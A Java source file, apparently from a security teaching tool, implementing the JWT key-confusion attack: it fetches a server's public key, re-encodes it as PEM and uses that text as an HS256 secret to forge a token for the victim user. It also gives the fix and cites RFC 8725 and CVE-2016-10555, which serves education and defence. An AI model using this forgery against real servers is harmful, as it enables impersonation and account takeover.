package dev.gatehouse.desktop.attack;

import com.fasterxml.jackson.databind.JsonNode;
import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.credential.CompactToken;
import dev.gatehouse.desktop.credential.CredentialException;
import dev.gatehouse.desktop.exchange.Hop;
import dev.gatehouse.server.jose.PublicKeyText;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.spec.RSAPublicKeySpec;
import java.util.Base64;
import java.util.List;
import java.util.stream.StreamSupport;

/** Signs with the server's public key as if it were a shared secret. */
@AutoService(Attack.class)
public final class JwtKeyConfusion extends JwtAttack {
  @Override
  public AttackCard card() {
    return new AttackCard(
        "jwt-key-confusion",
        "Key confusion",
        AttackGroup.JWT,
        "The attacker signs a token about Alice with HS256, and takes the text of the server's public key as the secret.",
        "The server's public key, which is, after all, public.",
        "The server lets the token choose the algorithm, and so uses its RSA key's text as the secret of an HMAC.",
        "trust-alg-header",
        List.of("RFC 8725 §3.1", "CVE-2016-10555"),
        "Tie each key to one algorithm when it is made, and use it with that one alone. The token does not choose.");
  }

  @Override
  String token(Target target) throws CredentialException, InterruptedException {
    Hop answer =
        target.send("Fetch the server's public keys.", target.get("/.well-known/jwks.json"));
    JsonNode key = rsaKey(Events.body(answer));
    String pem =
        target.makes(
            "Write the RSA key as text, as programs usually keep it.", "public key", pem(key));
    CompactToken forged =
        ownToken(target)
            .withHeader("alg", "HS256")
            .withHeader("kid", key.path("kid").asText())
            .withClaim("sub", Loot.VICTIM);
    SharedSecret secret = new SharedSecret(pem.getBytes(StandardCharsets.US_ASCII));
    return target.makes(
        "Write alg HS256 and sub alice, and sign with that text as the secret.",
        "forged token",
        secret.sign(forged).text());
  }

  private static JsonNode rsaKey(JsonNode jwks) throws CredentialException {
    return StreamSupport.stream(jwks.path("keys").spliterator(), false)
        .filter(key -> key.path("kty").asText().equals("RSA"))
        .findFirst()
        .orElseThrow(() -> new CredentialException("The server publishes no RSA key."));
  }

  /** The key as PEM, the text form in which programs keep public keys (RFC 7468 §13). */
  private static String pem(JsonNode key) throws CredentialException {
    try {
      RSAPublicKeySpec numbers = new RSAPublicKeySpec(number(key, "n"), number(key, "e"));
      return PublicKeyText.pem(KeyFactory.getInstance("RSA").generatePublic(numbers));
    } catch (GeneralSecurityException | IllegalArgumentException unusable) {
      throw new CredentialException("The server's RSA key cannot be read.");
    }
  }

  private static BigInteger number(JsonNode key, String name) {
    return new BigInteger(1, Base64.getUrlDecoder().decode(key.path(name).asText()));
  }
}
